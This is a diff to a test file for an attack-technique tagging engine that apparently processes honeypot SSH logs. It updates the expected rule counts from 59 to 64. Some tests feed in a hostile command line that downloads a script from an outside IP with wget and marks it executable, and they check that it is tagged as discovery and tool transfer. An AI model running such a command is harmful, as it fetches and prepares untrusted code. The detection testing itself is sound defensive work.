@@ -33,13 +33,13 @@ afterEach(() => {
 });
 
 describe('the rule source starts from the shipped pack', () => {
-  it('loads the 59 pack rules with no directory, and never reloads', () => {
+  it('loads the 64 pack rules with no directory, and never reloads', () => {
     const source = new RuleSource('', attack);
     const g = source.load();
     expect(source.dir).toBeUndefined();
-    expect(g.report.rules).toHaveLength(59);
+    expect(g.report.rules).toHaveLength(64);
     expect(g.error).toBeUndefined();
-    expect(g.description).toBe('59 rules: 59 from the decnet pack');
+    expect(g.description).toBe('64 rules: 64 from the decnet pack');
     expect(source.signature()).toBe(g.signature);
     const tags = g.engine.tag({ sourceKind: 'command', sourceId: 's#0', payload: { command_text: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh' } });
     expect([...new Set(tags.map((t) => t.techniqueId))].sort()).toEqual(['T1082', 'T1105']);
@@ -50,19 +50,19 @@ describe('the rule source starts from the shipped pack', () => {
     writeFileSync(join(dir, 'R0012.yaml'), LOCAL_RULE);
     const added = new RuleSource(dir, attack, 'add');
     const first = added.load();
-    expect(first.report.rules).toHaveLength(59);
+    expect(first.report.rules).toHaveLength(64);
     expect(first.report.rules.find((r) => r.ruleId === 'R0012')?.ruleVersion).toBe(3);
-    expect(first.description).toBe(`59 rules: 58 from the decnet pack, 1 from ${dir} (overriding R0012)`);
+    expect(first.description).toBe(`64 rules: 63 from the decnet pack, 1 from ${dir} (overriding R0012)`);
     writeFileSync(join(dir, 'L0001.yaml'), LOCAL_RULE.replace('R0012', 'L0001'));
     expect(added.signature()).not.toBe(first.signature);
-    expect(added.load().report.rules).toHaveLength(60);
+    expect(added.load().report.rules).toHaveLength(65);
     const replaced = new RuleSource(dir, attack, 'replace').load();
     expect(replaced.report.rules.map((r) => r.ruleId)).toEqual(['L0001', 'R0012']);
   });
 
   it('keeps tagging with the pack when the directory is missing, and reports it', () => {
     const g = new RuleSource(join(tmpdir(), 'no-such-ttp-rule-dir'), attack).load();
-    expect(g.report.rules).toHaveLength(59);
+    expect(g.report.rules).toHaveLength(64);
     expect(g.error).toMatch(/cannot read the rule directory/);
   });
 });
@@ -97,7 +97,7 @@ describe('the running worker tags with the pack by default and says so', () => {
   it('reports the rule count and source in health and tags a typed command line', async () => {
     const broker = new MemoryBroker();
     hosted = await hostTtp(broker, scratch.url, { rulesDir: '', rulesMode: 'add' });
-    expect(await hosted.health()).toMatchObject({ rules: 59, rulesRejected: 0, rulesError: null, rulesFrom: '59 rules: 59 from the decnet pack' });
+    expect(await hosted.health()).toMatchObject({ rules: 64, rulesRejected: 0, rulesError: null, rulesFrom: '64 rules: 64 from the decnet pack' });
     await broker.connect('producer').publish('log.event.ssh', logEvent({ event_type: 'command', fields: { cmd: 'uname -a; wget http://203.0.113.9/x.sh; chmod +x x.sh', sid: 's1' } }));
     await eventually(async () => Number((await database.pool.query<{ n: string }>('SELECT count(*) AS n FROM ttp_tag')).rows[0]?.n) === 2, 10_000);
     const rows = await database.pool.query<{ rule_id: string; technique_id: string }>('SELECT rule_id, technique_id FROM ttp_tag ORDER BY rule_id');
